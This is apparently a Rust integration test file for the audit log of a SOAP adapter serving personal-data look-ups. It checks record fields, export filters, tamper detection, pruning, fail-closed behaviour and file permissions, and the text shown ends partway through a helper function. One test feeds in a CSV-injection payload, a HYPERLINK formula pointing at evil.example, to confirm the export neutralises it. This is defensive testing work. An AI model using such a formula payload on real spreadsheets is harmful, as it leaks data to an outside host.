//! The audit log: every call of every kind leaves exactly one record with the right fields,
//! durable before the answer; `audit export` answers written requests; `audit verify`
//! accepts the untouched log and names the place of every kind of tampering; pruning keeps
//! what remains verifiable; and when the log cannot be written, no data leaves.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;
use serde_json::Value;

const CLI: &str = env!("CARGO_BIN_EXE_spolis-adapter");
const ERIKA: &str = "150342-10121";

/// Runs the command line; returns (success, stdout, stderr).
fn cli(args: &[&str]) -> (bool, String, String) {
    let output = Command::new(CLI).args(args).output().expect("spolis-adapter runs");
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn export_json(dir: &Path, filters: &[&str]) -> Vec<Value> {
    let mut args = vec!["audit", "export", "--data-dir", dir.to_str().unwrap(), "--format", "json"];
    args.extend_from_slice(filters);
    let (ok, out, err) = cli(&args);
    assert!(ok, "{err}");
    out.lines().map(|line| serde_json::from_str(line).expect("a JSON object per line")).collect()
}

/// One call of every kind; returns the call ids in order with the outcome each must record.
async fn make_calls_of_every_kind(server: &TestServer) -> Vec<(String, &'static str)> {
    let mut calls = Vec::new();
    let mut riga = server.client("riga").await;
    let reply = riga.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await;
    calls.push((reply.call_id, "ok"));
    let reply = riga.soap("/GetQueueStatusList", &sample("ep116-soap12-ivis.xml")).await;
    calls.push((reply.call_id, "ok"));
    let reply = riga
        .soap("/GetQueueStatusList", &envelope("1.1", &operation("GetQueueStatusList", "<PersonCode>150342-10122</PersonCode>")))
        .await;
    calls.push((reply.call_id, "InvalidPersonCode"));
    let reply = riga
        .soap("/GetApplicationList", &sample("ep115-soap11-ivis.xml").replace("<spolis:Operator>", "<!--").replace("</spolis:Operator>", "-->"))
        .await;
    calls.push((reply.call_id, "OperatorMissing"));
    let reply = riga.post("/GetApplicationList", "text/xml", None, "<broken").await;
    calls.push((reply.call_id, "MalformedXml"));
    let reply = riga.post("/Elsewhere", "text/xml", None, "<x/>").await;
    calls.push((reply.call_id, "NotFound"));
    let reply = riga.get("/GetApplicationList").await;
    calls.push((reply.call_id, "MethodNotAllowed"));
    let reply = server.client("talsi").await.soap("/GetApplicationList", &sample("ep115-soap12-plain.xml")).await;
    calls.push((reply.call_id, "ServiceNotAllowed"));
    let reply = server.client("unregistered").await.soap("/GetQueueStatusList", &sample("ep116-soap11-plain.xml")).await;
    calls.push((reply.call_id, "ConsumerNotRegistered"));
    // The WSDL is the published contract, not a call about a person: not audited.
    assert_eq!(riga.get("/GetQueueStatusList?wsdl").await.status, 200);
    calls
}

#[tokio::test]
async fn every_call_of_every_kind_leaves_exactly_one_record_with_its_fields() {
    let server = TestServer::start().await;
    let calls = make_calls_of_every_kind(&server).await;
    let (_, audit_dir) = server.stop().await;
    let records = export_json(audit_dir.path(), &[]);
    assert_eq!(records.len(), calls.len(), "{records:#?}");
    for ((call_id, outcome), record) in calls.iter().zip(&records) {
        assert_eq!(record["record_id"], call_id.as_str());
        assert_eq!(record["outcome"], *outcome, "{record}");
        assert_eq!(record["client_ip"], "127.0.0.1");
        assert_eq!(record["environment"], "test");
        assert_eq!(record["certificate_sha256"].as_str().unwrap().len(), 64);
        assert!(record["received_at"].as_str().unwrap().ends_with('Z'));
        assert!(record["processing_micros"].as_i64().unwrap() >= 0);
        if *outcome == "ok" {
            assert!(record["processing_micros"].as_i64().unwrap() > 0);
        }
    }
    let seqs: Vec<i64> = records.iter().map(|r| r["seq"].as_i64().unwrap()).collect();
    assert_eq!(seqs, (1..=calls.len() as i64).collect::<Vec<_>>());

    let plain = &records[0];
    assert_eq!(plain["service"], "EP115");
    assert_eq!(plain["request_style"], "plain");
    assert_eq!(plain["soap_version"], "1.1");
    assert_eq!(plain["consumer_id"], "90011524360");
    assert_eq!(plain["person_code"], "15034210121");
    assert_eq!(plain["operator_first_name"], "Anna");
    assert_eq!(plain["operator_surname"], "Liepiņa");
    assert_eq!(plain["operator_person_code"], "12037910015");
    assert!(plain["records_returned"].as_i64().unwrap() > 0);

    let ivis = &records[1];
    assert_eq!((ivis["service"].as_str(), ivis["request_style"].as_str(), ivis["soap_version"].as_str()), (Some("EP116"), Some("ivis"), Some("1.2")));
    assert!(ivis["message_id"].as_str().is_some_and(|id| id.len() == 36));
    assert!(ivis["transaction_id"].as_str().unwrap().starts_with("URN:IVIS:100001:"));
    assert!(ivis["correlation_id"].is_string());
    assert!(ivis["ivis_sender"].is_string());

    // A refused call still names who asked about whom, as sent.
    assert_eq!(records[2]["person_code"], "150342-10122");
    assert_eq!(records[2]["records_returned"], 0);
    assert_eq!(records[3]["operator_person_code"], Value::Null);
    assert_eq!(records[3]["person_code"], "15034210121");
    assert_eq!(records[4]["request_style"], Value::Null);
    assert_eq!(records[5]["service"], "-");
    assert_eq!(records[7]["consumer_id"], "90009113532");
    assert_eq!(records[8]["consumer_id"], Value::Null);
    assert!(records[8]["certificate_subject"].as_str().unwrap().contains("CN="));

    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", audit_dir.path().to_str().unwrap()]);
    assert!(ok, "{out}{err}");
    assert!(out.contains(&format!("{} records", calls.len())), "{out}");
}

#[tokio::test]
async fn export_answers_who_looked_at_a_persons_data_by_every_filter() {
    let server = TestServer::start().await;
    let calls = make_calls_of_every_kind(&server).await;
    let mut talsi = server.client("talsi").await;
    talsi
        .soap("/GetQueueStatusList", &envelope("1.1", &operation("GetQueueStatusList", "<PersonCode>231188-13456</PersonCode>")))
        .await;
    let (_, audit_dir) = server.stop().await;
    let dir = audit_dir.path();

    // Any spelling of the code finds the same calls.
    let about_erika = export_json(dir, &["--person", ERIKA]);
    assert_eq!(about_erika, export_json(dir, &["--person", "15034210121"]));
    assert!(about_erika.len() >= 5, "{about_erika:#?}");
    assert!(about_erika.iter().all(|r| r["person_code"] == "15034210121"));
    let about_liga = export_json(dir, &["--person", "231188-13456"]);
    assert_eq!(about_liga.len(), 1);
    assert_eq!(about_liga[0]["consumer_id"], "90009113532");

    let by_operator = export_json(dir, &["--operator", "120379-10015"]);
    assert!(by_operator.len() >= 4 && by_operator.iter().all(|r| r["operator_person_code"] == "12037910015"));
    let by_consumer = export_json(dir, &["--consumer", "90009113532"]);
    assert_eq!(by_consumer.len(), 2);

    let all = export_json(dir, &[]);
    assert_eq!(all.len(), calls.len() + 1);
    let third = all[2]["received_at"].as_str().unwrap().to_string();
    let from_third = export_json(dir, &["--from", &third]);
    assert_eq!(from_third.len(), all.len() - 2);
    let till_third = export_json(dir, &["--till", &third]);
    assert_eq!(till_third.len(), 3);
    assert_eq!(export_json(dir, &["--person", ERIKA, "--consumer", "90009113532"]).len(), 1, "talsi was refused EP115 about Ērika");
    assert!(export_json(dir, &["--person", "231188-13456", "--consumer", "90011524360"]).is_empty());

    // CSV: a header, one line per record, diacritics intact, to a file.
    let output = dir.join("erika.csv");
    let (ok, _, err) = cli(&["audit", "export", "--data-dir", dir.to_str().unwrap(), "--person", ERIKA, "--output", output.to_str().unwrap()]);
    assert!(ok, "{err}");
    let csv = std::fs::read_to_string(&output).unwrap();
    assert!(csv.starts_with("seq,record_id,received_at,"));
    assert_eq!(csv.lines().count(), about_erika.len() + 1);
    assert!(csv.contains("Liepiņa") && csv.contains("Rīgas Sociālais dienests"));
}

/// A copy of a finished audit directory, for tampering.
fn copy_of(dir: &Path) -> tempfile::TempDir {
    let copy = tempfile::tempdir().unwrap();
    let connection = rusqlite::Connection::open(dir.join("audit.sqlite3")).unwrap();
    connection.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);").unwrap();
    drop(connection);
    for file in ["audit.sqlite3", "audit-signing.key", "audit-signing.key.pub", "audit-witness.log"] {
        std::fs::copy(dir.join(file), copy.path().join(file)).unwrap();
    }
    copy
}

fn tamper(dir: &Path, sql: &str) -> PathBuf {
    let connection = rusqlite::Connection::open(dir.join("audit.sqlite3")).unwrap();
    connection.execute_batch(sql).unwrap();
    dir.to_path_buf()
}

/// The records of a log as stored, in seq order.
fn stored_records(connection: &rusqlite::Connection) -> Vec<spolis_adapter::audit::AuditRecord> {
    let mut statement = connection.prepare("SELECT encoded FROM audit_records ORDER BY seq").unwrap();
    let rows = statement.query_map([], |row| spolis_adapter::audit::sqlite::record_from_encoded(row, 0)).unwrap();
    rows.map(Result::unwrap).collect()
}

/// Changes the record at `seq` as someone with write access to the file could: its encoding
/// and the search columns that copy it agree, and only its hash is left as it was.
fn rewrite_record(dir: &Path, seq: i64, change: impl FnOnce(&mut spolis_adapter::audit::AuditRecord)) -> PathBuf {
    let connection = rusqlite::Connection::open(dir.join("audit.sqlite3")).unwrap();
    let mut record = stored_records(&connection).into_iter().find(|record| record.seq == seq).unwrap();
    change(&mut record);
    connection
        .execute(
            "UPDATE audit_records SET encoded = ?1, person_code = ?2, operator_person_code = ?3, consumer_id = ?4, received_at_micros = ?5 WHERE seq = ?6",
            rusqlite::params![
                record.canonical_encoding(),
                record.person_code,
                record.operator_person_code,
                record.consumer_id,
                record.received_at.timestamp_micros(),
                seq
            ],
        )
        .unwrap();
    dir.to_path_buf()
}

/// Recomputes every record's chain hash from the start, as an insider who can write the
/// database would after altering a record.
fn recompute_chain(connection: &rusqlite::Connection) {
    let mut hash = [0u8; 32];
    for record in stored_records(connection) {
        let next = record.chain_hash(&hash);
        connection
            .execute("UPDATE audit_records SET prev_hash = ?1, hash = ?2 WHERE seq = ?3", rusqlite::params![hash.as_slice(), next.as_slice(), record.seq])
            .unwrap();
        hash = next;
    }
}

fn verify_fails_at(dir: &Path, seq: i64, words: &str) {
    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap()]);
    assert!(!ok, "verification passed a tampered log: {out}");
    assert!(err.contains(&format!("at seq {seq}:")), "expected the place seq {seq}: {err}");
    assert!(err.contains(words), "expected {words:?}: {err}");
}

const SWAP_2_AND_5: &str = "
    UPDATE audit_records SET seq = -2 WHERE seq = 2;
    UPDATE audit_records SET seq = 2 WHERE seq = 5;
    UPDATE audit_records SET seq = 5 WHERE seq = -2;";

#[tokio::test]
async fn verify_names_the_place_of_every_kind_of_tampering() {
    let server = TestServer::start().await;
    let calls = make_calls_of_every_kind(&server).await;
    let last = calls.len() as i64;
    let (_, audit_dir) = server.stop().await;
    let original = audit_dir.path();

    let altered = copy_of(original);
    verify_fails_at(&rewrite_record(altered.path(), 3, |record| record.operator_surname = Some("Liepina".into())), 3, "altered");

    let one_byte = copy_of(original);
    verify_fails_at(&rewrite_record(one_byte.path(), 1, |record| record.records_returned += 1), 1, "altered");

    // Only a search column changed: the record would be handed out as another person's.
    let misfiled = copy_of(original);
    verify_fails_at(
        &tamper(misfiled.path(), "UPDATE audit_records SET person_code = '23118813456' WHERE seq = 2;"),
        2,
        "search column person_code no longer matches",
    );
    let (ok, out, err) = cli(&["audit", "export", "--data-dir", misfiled.path().to_str().unwrap(), "--person", "231188-13456"]);
    assert!(!ok && err.contains("seq 2 does not match its search columns"), "export handed out a misfiled record: {out}{err}");

    let deleted = copy_of(original);
    verify_fails_at(&tamper(deleted.path(), "DELETE FROM audit_records WHERE seq = 4;"), 4, "missing");

    let swapped = copy_of(original);
    verify_fails_at(&tamper(swapped.path(), SWAP_2_AND_5), 2, "does not follow");

    // A forged record inserted in the middle, correctly linked to its predecessor: the record
    // after it no longer follows.
    let inserted = copy_of(original);
    let connection = rusqlite::Connection::open(inserted.path().join("audit.sqlite3")).unwrap();
    connection
        .execute_batch(
            "UPDATE audit_records SET seq = seq + 1000000 WHERE seq >= 4;
             UPDATE audit_records SET seq = seq - 999999 WHERE seq >= 1000000;",
        )
        .unwrap();
    let prev: Vec<u8> = connection.query_row("SELECT hash FROM audit_records WHERE seq = 3", [], |r| r.get(0)).unwrap();
    let mut forged = stored_records(&connection).into_iter().next().unwrap();
    forged.seq = 4;
    forged.record_id = uuid::Uuid::new_v4();
    forged.person_code = Some("23118813456".into());
    let prev: [u8; 32] = prev.try_into().unwrap();
    let hash = forged.chain_hash(&prev);
    spolis_adapter::audit::sqlite::insert_record(&connection, &forged, &prev, &hash).unwrap();
    drop(connection);
    verify_fails_at(inserted.path(), 5, "does not follow");

    let truncated = copy_of(original);
    verify_fails_at(&tamper(truncated.path(), &format!("DELETE FROM audit_records WHERE seq >= {};", last - 1)), last - 1, "truncated");

    // Altering a record and recomputing the whole chain after it: only the signed head tells.
    let rewritten = copy_of(original);
    rewrite_record(rewritten.path(), 2, |record| record.person_code = Some("23118813456".into()));
    let connection = rusqlite::Connection::open(rewritten.path().join("audit.sqlite3")).unwrap();
    recompute_chain(&connection);
    drop(connection);
    let (ok, _, err) = cli(&["audit", "verify", "--data-dir", rewritten.path().to_str().unwrap()]);
    assert!(!ok && err.contains("does not reach the head signed"), "{err}");

    let forged_signature = copy_of(original);
    verify_fails_at(
        &tamper(forged_signature.path(), &format!("UPDATE audit_checkpoints SET signature = zeroblob(64) WHERE seq = {last};")),
        last,
        "does not verify",
    );

    // A key the verifier does not trust.
    let other_key = tempfile::tempdir().unwrap();
    spolis_adapter::audit::AuditSigner::load_or_create(&other_key.path().join("k")).unwrap();
    let (ok, _, err) = cli(&[
        "audit",
        "verify",
        "--data-dir",
        original.to_str().unwrap(),
        "--public-key",
        other_key.path().join("k.pub").to_str().unwrap(),
    ]);
    assert!(!ok && err.contains("not trusted"), "{err}");

    // And the original still verifies.
    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", original.to_str().unwrap()]);
    assert!(ok, "{out}{err}");
}

#[tokio::test]
async fn pruning_keeps_the_rest_verifiable_and_the_chain_continues_after_a_restart() {
    let server = TestServer::start().await;
    let calls = make_calls_of_every_kind(&server).await;
    let (_, audit_dir) = server.stop().await;
    let dir = audit_dir.path().to_path_buf();
    let records = export_json(&dir, &[]);
    // Prune everything received before the fourth call.
    let cutoff: chrono::DateTime<chrono::Utc> = records[3]["received_at"].as_str().unwrap().parse().unwrap();
    let signer = spolis_adapter::audit::AuditSigner::load_or_create(&dir.join("audit-signing.key")).unwrap();
    let log = spolis_adapter::audit::AuditLocation::Sqlite(dir.join("audit.sqlite3"));
    let witness = spolis_adapter::audit::Witness::new(Some(dir.join("audit-witness.log")), &[]);
    let report = log.prune(&signer, cutoff, &witness).unwrap();
    assert_eq!((report.removed, report.anchored_at), (3, Some(3)));
    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap()]);
    assert!(ok, "{out}{err}");
    assert!(out.contains(&format!("{} records (seq 4..{})", calls.len() - 3, calls.len())), "{out}");

    // A restarted server continues the same chain.
    let server = TestServer::start_with(Options { audit_dir: Some(dir.clone()), ..Default::default() }).await;
    let reply = server.client("riga").await.soap("/GetApplicationList", &sample("ep115-soap12-ivis.xml")).await;
    assert_eq!(reply.status, 200);
    server.stop().await;
    let after = export_json(&dir, &[]);
    assert_eq!(after.last().unwrap()["seq"].as_i64(), Some(calls.len() as i64 + 1));
    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap()]);
    assert!(ok, "{out}{err}");

    // The command line prunes with the retention period: nothing here is two years old.
    let (ok, out, err) = cli(&["audit", "prune", "--data-dir", dir.to_str().unwrap()]);
    assert!(ok && out.starts_with("0 records"), "{out}{err}");
}

#[tokio::test]
async fn when_the_audit_log_cannot_be_written_no_data_leaves() {
    let server = TestServer::start().await;
    let mut client = server.client("riga").await;
    let reply = client.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await;
    assert_eq!(reply.status, 200);
    let connection = rusqlite::Connection::open(server.audit_path()).unwrap();
    connection.execute_batch("DROP TABLE audit_records;").unwrap();
    for name in ["ep115-soap11-plain.xml", "ep116-soap12-ivis.xml"] {
        let path = if name.starts_with("ep115") { "/GetApplicationList" } else { "/GetQueueStatusList" };
        let reply = client.soap(path, &sample(name)).await;
        assert_eq!(error_code(&reply.body).as_deref(), Some("AuditUnavailable"), "{}", reply.body);
        assert_eq!(reply.status, 500);
        assert!(!reply.body.contains("Kalniņa") && !reply.body.contains("QueueEvent"), "{}", reply.body);
    }
}

/// A log written by two runs of the service on one audit directory (so two signed heads,
/// both witnessed); returns the directory and the seq of the first run's head.
async fn two_runs() -> (tempfile::TempDir, i64) {
    let dir = tempfile::tempdir().unwrap();
    let mut first_head = 0;
    for run in 0..2 {
        let server = TestServer::start_with(Options { audit_dir: Some(dir.path().to_path_buf()), ..Default::default() }).await;
        let mut riga = server.client("riga").await;
        for _ in 0..3 {
            assert_eq!(riga.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await.status, 200);
        }
        server.stop().await;
        if run == 0 {
            first_head = export_json(dir.path(), &[]).len() as i64;
        }
    }
    (dir, first_head)
}

fn verify_with_witness(dir: &Path) -> (bool, String, String) {
    let witness = dir.join("audit-witness.log");
    cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap(), "--witness", witness.to_str().unwrap()])
}

#[tokio::test]
async fn the_witness_outside_the_database_finds_what_deleting_checkpoints_hides() {
    let (original, first_head) = two_runs().await;
    let last = 2 * first_head;
    let witness = std::fs::read_to_string(original.path().join("audit-witness.log")).unwrap();
    let seqs: Vec<&str> = witness.lines().filter_map(|line| line.split(' ').find_map(|w| w.strip_prefix("seq="))).collect();
    assert_eq!(seqs, [first_head.to_string(), last.to_string()], "each run's last head is witnessed: {witness}");
    let (ok, out, err) = verify_with_witness(original.path());
    assert!(ok, "{out}{err}");
    assert!(out.contains(&format!("reaches all 2 heads named outside its checkpoints (1 witness file(s)), up to seq {last}")), "{out}");

    // The newest records deleted with their checkpoint: the rest is a consistent, signed log…
    let cut = copy_of(original.path());
    tamper(cut.path(), &format!("DELETE FROM audit_records WHERE seq > {first_head}; DELETE FROM audit_checkpoints WHERE seq > {first_head};"));
    let (ok, out, _) = cli(&["audit", "verify", "--data-dir", cut.path().to_str().unwrap()]);
    assert!(ok && out.contains("no witness file given"), "without the witness this passes: {out}");
    // …which the witness contradicts, naming where.
    let (ok, _, err) = verify_with_witness(cut.path());
    assert!(!ok, "a cut tail passed against the witness");
    assert!(err.contains(&format!("at seq {}:", first_head + 1)) && err.contains("truncated"), "{err}");
    assert!(err.contains(&format!("audit-witness.log line 2 names a signed head at seq {last}")), "{err}");

    // Every checkpoint deleted and the chain recomputed after a change.
    let recomputed = copy_of(original.path());
    rewrite_record(recomputed.path(), 2, |record| record.person_code = Some("23118813456".into()));
    let connection = rusqlite::Connection::open(recomputed.path().join("audit.sqlite3")).unwrap();
    connection.execute_batch("DELETE FROM audit_checkpoints;").unwrap();
    recompute_chain(&connection);
    drop(connection);
    let (ok, _, err) = verify_with_witness(recomputed.path());
    assert!(!ok, "a recomputed chain passed against the witness");
    assert!(err.contains(&format!("at seq {first_head}:")) && err.contains("does not reach the head the witness"), "{err}");

    // A prefix deleted by hand, down to an ordinary checkpoint, is not a prune.
    let prefix = copy_of(original.path());
    tamper(prefix.path(), &format!("DELETE FROM audit_records WHERE seq <= {first_head}; DELETE FROM audit_checkpoints WHERE seq < {first_head};"));
    verify_fails_at(prefix.path(), first_head + 1, "not a prune marker");

    // A forged witness line does not count.
    let forged = copy_of(original.path());
    let path = forged.path().join("audit-witness.log");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replacen(&format!("seq={last} "), &format!("seq={} ", last + 5), 1)).unwrap();
    let (ok, _, err) = verify_with_witness(forged.path());
    assert!(!ok && err.contains("line 2 does not verify"), "{err}");
}

#[tokio::test]
async fn an_operator_name_a_spreadsheet_would_evaluate_is_exported_as_text() {
    let server = TestServer::start().await;
    let hostile = sample("ep115-soap11-plain.xml")
        .replace("<spolis:FirstName>Anna</spolis:FirstName>", "<spolis:FirstName>=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"Anna\")</spolis:FirstName>");
    assert_ne!(hostile, sample("ep115-soap11-plain.xml"));
    server.client("riga").await.soap("/GetApplicationList", &hostile).await;
    let (_, audit_dir) = server.stop().await;
    // The record keeps the name as sent…
    let records = export_json(audit_dir.path(), &[]);
    assert_eq!(records[0]["operator_first_name"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")");
    // …and the CSV hands it to a spreadsheet as text.
    let (ok, csv, err) = cli(&["audit", "export", "--data-dir", audit_dir.path().to_str().unwrap(), "--format", "csv"]);
    assert!(ok, "{err}");
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Anna"")""#), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
}

/// The purpose each look-up states is kept in its record as sent — a refused one's too — shown
/// by the export (CSV and JSON) and searched by `--purpose`.
#[tokio::test]
async fn the_purpose_of_every_look_up_is_recorded_exported_and_searched_by() {
    let server = TestServer::start().await;
    let mut riga = server.client("riga").await;
    let plain = riga.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await;
    let with_case = riga.soap("/GetQueueStatusList", &sample("ep116-soap11-ivis.xml")).await;
    let without = sample("ep115-soap12-plain.xml").replace(&format!("<spolis:LegalBasis>{LEGAL_BASIS}</spolis:LegalBasis>"), "");
    let refused = riga.soap("/GetApplicationList", &without).await;
    assert_eq!(error_code(&refused.body).as_deref(), Some("PurposeMissing"), "{}", refused.body);
    let (_, audit_dir) = server.stop().await;
    let records = export_json(audit_dir.path(), &[]);
    let recorded: Vec<(&str, &Value, &Value, &str)> = records
        .iter()
        .map(|r| (r["record_id"].as_str().unwrap(), &r["purpose_legal_basis"], &r["purpose_case_number"], r["outcome"].as_str().unwrap()))
        .collect();
    let basis = Value::from(LEGAL_BASIS);
    assert_eq!(
        recorded,
        [
            (plain.call_id.as_str(), &basis, &Value::Null, "ok"),
            (with_case.call_id.as_str(), &basis, &Value::from("SD-2026/1417"), "ok"),
            (refused.call_id.as_str(), &Value::Null, &Value::Null, "PurposeMissing"),
        ]
    );
    // By the case number, or by words of the legal basis in any letter case.
    let seqs = |filters: &[&str]| export_json(audit_dir.path(), filters).iter().map(|r| r["seq"].as_i64().unwrap()).collect::<Vec<_>>();
    assert_eq!(seqs(&["--purpose", "SD-2026/1417"]), [2]);
    assert_eq!(seqs(&["--purpose", "SOCIĀLĀS PALĪDZĪBAS"]), [1, 2]);
    assert_eq!(seqs(&["--purpose", "SD-2026/1417", "--person", "051230-10106"]), Vec::<i64>::new());
    assert_eq!(seqs(&["--purpose", "10. pants"]), Vec::<i64>::new());
    let (ok, csv, err) = cli(&["audit", "export", "--data-dir", audit_dir.path().to_str().unwrap(), "--format", "csv", "--purpose", "sd-2026"]);
    assert!(ok, "{err}");
    let mut lines = csv.lines();
    assert!(lines.next().unwrap().ends_with(",purpose_legal_basis,purpose_case_number,bulk_prepared_by,administrative"), "{csv}");
    let row = lines.next().unwrap();
    assert!(row.ends_with(&format!(",\"{LEGAL_BASIS}\",SD-2026/1417,,")), "{row}");
    assert!(lines.next().is_none(), "{csv}");
    let (ok, out, err) = cli(&["audit", "verify", "--data-dir", audit_dir.path().to_str().unwrap()]);
    assert!(ok, "{out}{err}");
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

/// Runs the command line under `umask 000`, as a careless unit file or shell would.
#[cfg(unix)]
fn cli_with_open_umask(args: &[&str]) -> (bool, String) {
    let output = Command::new("sh").arg("-c").arg("umask 000; exec \"$@\"").arg("sh").arg(CLI).args(args).output().expect("sh runs");
    (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned())
}

#[cfg(unix)]
#[tokio::test]
async fn files_holding_personal_data_are_the_owners_only_whatever_the_umask() {
    let root = tempfile::tempdir().unwrap();
    let data = root.path().join("fresh/data");
    let (ok, err) = cli_with_open_umask(&["seed-demo", "--data-dir", data.to_str().unwrap(), "--persons", "20"]);
    assert!(ok, "{err}");
    assert_eq!((mode(&root.path().join("fresh")), mode(&data)), (0o700, 0o700));
    let register = data.join("spolis.sqlite3");
    assert_eq!(mode(&register), 0o600);
    for sidecar in ["-wal", "-shm"] {
        let path = PathBuf::from(format!("{}{sidecar}", register.display()));
        if path.exists() {
            assert_eq!(mode(&path), 0o600, "{}", path.display());
        }
    }

    // A running service's audit log, its WAL and SHM, the key and the witness.
    let server = TestServer::start().await;
    server.client("riga").await.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await;
    let dir = server.audit_dir.clone();
    for file in ["audit.sqlite3", "audit.sqlite3-wal", "audit.sqlite3-shm", "audit-signing.key"] {
        assert_eq!(mode(&dir.join(file)), 0o600, "{file}");
    }
    let (_, audit_dir) = server.stop().await;
    let dir = audit_dir.path();
    assert_eq!(mode(&dir.join("audit-witness.log")), 0o600);

    // An export, and a log left readable by an older build, tightened when next opened.
    let output = dir.join("export.csv");
    let (ok, err) = cli_with_open_umask(&["audit", "export", "--data-dir", dir.to_str().unwrap(), "--output", output.to_str().unwrap()]);
    assert!(ok, "{err}");
    assert_eq!(mode(&output), 0o600);
    use std::os::unix::fs::PermissionsExt;
    for file in ["audit.sqlite3", "audit-signing.key"] {
        std::fs::set_permissions(dir.join(file), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let (ok, err) = cli_with_open_umask(&["audit", "prune", "--data-dir", dir.to_str().unwrap()]);
    assert!(ok, "{err}");
    assert_eq!((mode(&dir.join("audit.sqlite3")), mode(&dir.join("audit-signing.key"))), (0o600, 0o600));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_witness_that_cannot_be_written_fails_calls_closed_until_it_can() {
    let server = TestServer::start_with(Options {
        backend: Some(common::Backend::Sqlite),
        configure: Some(|config| config.audit.checkpoint_interval_seconds = 1),
        ..Default::default()
    })
    .await;
    let witness = server.audit_dir.join("audit-witness.log");
    // A directory where the witness file should be: it cannot be opened for appending.
    std::fs::create_dir(&witness).unwrap();
    let mut riga = server.client("riga").await;
    let ep115 = sample("ep115-soap11-plain.xml");
    riga.soap("/GetApplicationList", &ep115).await;
    // The next checkpoint (within the 1 s interval, idle or not) is not witnessed: not ready…
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let body = loop {
        let (status, body) = ops_get(server.ops_address, "/ready").await;
        if status == 503 {
            break body;
        }
        assert!(std::time::Instant::now() < deadline, "/ready stayed {status}: {body}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert!(body.contains("witness"), "{body}");
    // …and no call is answered with data.
    let reply = riga.soap("/GetApplicationList", &ep115).await;
    assert_eq!(error_code(&reply.body).as_deref(), Some("AuditUnavailable"), "{}", reply.body);
    assert!(!reply.body.contains("Kalniņa"), "{}", reply.body);
    let (_, metrics) = ops_get(server.ops_address, "/metrics").await;
    assert!(metrics.lines().any(|line| line.starts_with("spolis_audit_witness_failures_total ") && !line.ends_with(" 0")), "{metrics}");

    // The witness can be written again: the missed checkpoint is handed over, calls are answered.
    std::fs::remove_dir(&witness).unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while ops_get(server.ops_address, "/ready").await.0 != 200 {
        assert!(std::time::Instant::now() < deadline, "no recovery");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(riga.soap("/GetApplicationList", &ep115).await.status, 200);
    let (_, audit_dir) = server.stop().await;
    let (ok, out, err) = verify_with_witness(audit_dir.path());
    assert!(ok, "{out}{err}");
}

/// A time-stamping authority for one test: `openssl ts -reply` behind a minimal HTTP server,
/// with a CA and a TSA certificate of its own. Returns its URL and the CA's PEM file.
async fn start_tsa(dir: &Path) -> (String, PathBuf) {
    let run = |args: &[&str]| {
        let output = Command::new("openssl").args(args).current_dir(dir).output().expect("openssl runs");
        assert!(output.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    };
    run(&["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.crt", "-subj", "/CN=Test TSA CA", "-days", "30",
        "-addext", "basicConstraints=critical,CA:true", "-addext", "keyUsage=critical,keyCertSign,cRLSign"]);
    run(&["req", "-newkey", "rsa:2048", "-nodes", "-keyout", "tsa.key", "-out", "tsa.csr", "-subj", "/CN=Test TSA"]);
    std::fs::write(dir.join("ext.cnf"), "extendedKeyUsage=critical,timeStamping\nbasicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\n").unwrap();
    run(&["x509", "-req", "-in", "tsa.csr", "-CA", "ca.crt", "-CAkey", "ca.key", "-CAcreateserial", "-out", "tsa.crt", "-days", "30", "-extfile", "ext.cnf"]);
    std::fs::write(dir.join("serial"), "01\n").unwrap();
    std::fs::write(
        dir.join("ts.cnf"),
        format!("[ tsa ]\ndefault_tsa = tsa1\n[ tsa1 ]\nserial = {}\nsigner_digest = sha256\ndefault_policy = 1.2.3.4.1\ndigests = sha256\naccuracy = secs:1\ness_cert_id_alg = sha256\n", dir.join("serial").display()),
    )
    .unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/tsr", listener.local_addr().unwrap());
    let ca = dir.join("ca.crt");
    let dir = dir.to_path_buf();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let mut requests = 0u32;
        while let Ok((mut tcp, _)) = listener.accept().await {
            requests += 1;
            let mut received = Vec::new();
            let mut buffer = [0u8; 4096];
            // Headers, then Content-Length bytes of body.
            let body = loop {
                let n = tcp.read(&mut buffer).await.unwrap_or(0);
                if n == 0 {
                    break None;
                }
                received.extend_from_slice(&buffer[..n]);
                let Some(end) = received.windows(4).position(|w| w == b"\r\n\r\n") else { continue };
                let headers = String::from_utf8_lossy(&received[..end]).to_lowercase();
